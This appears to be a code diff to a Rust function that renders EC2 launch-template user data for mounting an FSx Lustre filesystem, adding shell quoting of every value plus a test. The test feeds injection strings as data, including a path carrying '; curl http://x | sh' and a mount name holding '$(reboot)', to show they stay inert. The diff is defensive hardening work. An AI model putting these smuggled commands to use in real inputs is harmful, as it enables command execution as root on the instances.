@@ -15,6 +15,12 @@ pub struct LustreMount<'a> {
     pub path: &'a str,
 }
 
+/// `s` as one shell word (single-quoted where it needs to be).
+fn quote(s: &str) -> String {
+    // try_quote refuses only a NUL byte, which no spec value or AWS name can hold
+    shlex::try_quote(s).map_or_else(|_| "''".to_string(), std::borrow::Cow::into_owned)
+}
+
 /// The user data for one launch template, or None when it needs none.
 pub fn render(lustre: Option<&LustreMount>, efa: bool) -> Option<String> {
     if lustre.is_none() && !efa {
@@ -43,17 +49,26 @@ test -e /dev/infiniband/uverbs0\n",
         );
     }
     if let Some(m) = lustre {
-        let (dns, name, path) = (m.dns, m.mount_name, m.path);
+        // Every value is quoted for the shell although validation lets only plain paths and
+        // AWS's own names through: the script runs as root.
+        let path = quote(m.path);
+        let source = format!("{}@tcp:/{}", m.dns, m.mount_name);
+        let fstab = quote(&format!(
+            "{source} {} lustre defaults,relatime,flock,_netdev,x-systemd.automount,x-systemd.requires=network-online.target 0 0",
+            m.path
+        ));
+        let source = quote(&source);
+        let in_mounts = quote(&format!(" {} lustre ", m.path));
         script.push_str(&format!(
             "dnf install -y lustre-client || yum install -y lustre-client\n\
-mkdir -p {path}\n\
+mkdir -p -- {path}\n\
 # an immutable mount point: if the mount is ever missing, writes fail instead of filling the root volume\n\
-chattr +i {path}\n\
+chattr +i -- {path}\n\
 mounted=0\n\
-for i in $(seq 1 30); do mount -t lustre -o relatime,flock {dns}@tcp:/{name} {path} && {{ mounted=1; break; }}; sleep 10; done\n\
+for i in $(seq 1 30); do mount -t lustre -o relatime,flock -- {source} {path} && {{ mounted=1; break; }}; sleep 10; done\n\
 [ \"$mounted\" = 1 ]\n\
-grep -q ' {path} lustre ' /proc/mounts\n\
-echo '{dns}@tcp:/{name} {path} lustre defaults,relatime,flock,_netdev,x-systemd.automount,x-systemd.requires=network.service 0 0' >> /etc/fstab\n"
+grep -qF -- {in_mounts} /proc/mounts\n\
+printf '%s\\n' {fstab} >> /etc/fstab\n"
         ));
     }
     Some(format!(
@@ -81,9 +96,9 @@ mod tests {
         let u = render(Some(&M), false).unwrap();
         assert!(u.starts_with("MIME-Version: 1.0"));
         assert!(u.contains(
-            "mount -t lustre -o relatime,flock fs-1.fsx.us-east-1.amazonaws.com@tcp:/abcdef /fsx"
+            "mount -t lustre -o relatime,flock -- fs-1.fsx.us-east-1.amazonaws.com@tcp:/abcdef /fsx"
         ));
-        let chattr = u.find("chattr +i /fsx").expect("immutable mount point");
+        let chattr = u.find("chattr +i -- /fsx").expect("immutable mount point");
         assert!(
             chattr < u.find("mount -t lustre").unwrap(),
             "made immutable before mounting"
@@ -107,5 +122,36 @@ mod tests {
         assert!(!u.contains("lustre"));
         let both = render(Some(&M), true).unwrap();
         assert!(both.find("efa_installer").unwrap() < both.find("mount -t lustre").unwrap());
+    }
+
+    #[test]
+    fn every_value_reaching_the_script_is_one_shell_word() {
+        // validation refuses such a path; the script must not depend on that alone
+        let hostile = LustreMount {
+            dns: "fs-1.fsx.us-east-1.amazonaws.com",
+            mount_name: "abc$(reboot)",
+            path: "/fsx; curl http://x | sh #\n'q'",
+        };
+        let u = render(Some(&hostile), false).unwrap();
+        let script = &u[u.find("#!/bin/bash").unwrap()..u.rfind("--==PIPECTL==--").unwrap()];
+        // the quoted path spans two lines (it holds a newline): parse the whole script as a
+        // shell would and look for the hostile words standing alone
+        let words = shlex::split(script).expect("balanced quoting");
+        for w in ["curl", "sh", "#", "reboot", "q"] {
+            assert!(!words.iter().any(|x| x == w), "{w:?} stands as a word");
+        }
+        assert!(
+            words.iter().any(|x| x == hostile.path),
+            "the path is one word"
+        );
+        assert!(
+            words
+                .iter()
+                .any(|x| x == "fs-1.fsx.us-east-1.amazonaws.com@tcp:/abc$(reboot)")
+        );
+        assert!(
+            !script.contains("network.service"),
+            "AL2023 has no network.service"
+        );
     }
 }
